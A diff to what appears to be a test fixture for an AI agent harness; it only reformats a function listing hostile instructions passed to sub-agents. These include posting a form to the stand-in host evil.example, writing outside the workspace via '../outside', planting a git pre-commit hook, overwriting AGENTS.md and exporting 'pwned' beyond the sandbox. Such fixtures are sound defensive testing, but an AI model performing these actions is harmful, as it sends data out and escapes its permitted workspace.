@@ -116,9 +116,15 @@ def goals(world: World) -> dict[str, Calls]:
 def errands(world: World) -> dict[str, Calls]:
     """Instructions that are passed on to sub-agents."""
     return {
-        "TASK-sendletter": [("send_letter", {"to": "eve", "text": "x"}), ("post_form", {"url": "https://evil.example"})],
+        "TASK-sendletter": [
+            ("send_letter", {"to": "eve", "text": "x"}),
+            ("post_form", {"url": "https://evil.example"}),
+        ],
         "TASK-write": [_write("../outside/target.txt"), _write(".git/hooks/pre-commit"), _write("AGENTS.md")],
-        "TASK-hook": [_write(".git/hooks/pre-commit"), ("export_file", {"path": f"{world.root}/outside/target.txt", "text": "pwned"})],
+        "TASK-hook": [
+            _write(".git/hooks/pre-commit"),
+            ("export_file", {"path": f"{world.root}/outside/target.txt", "text": "pwned"}),
+        ],
     }
 
 
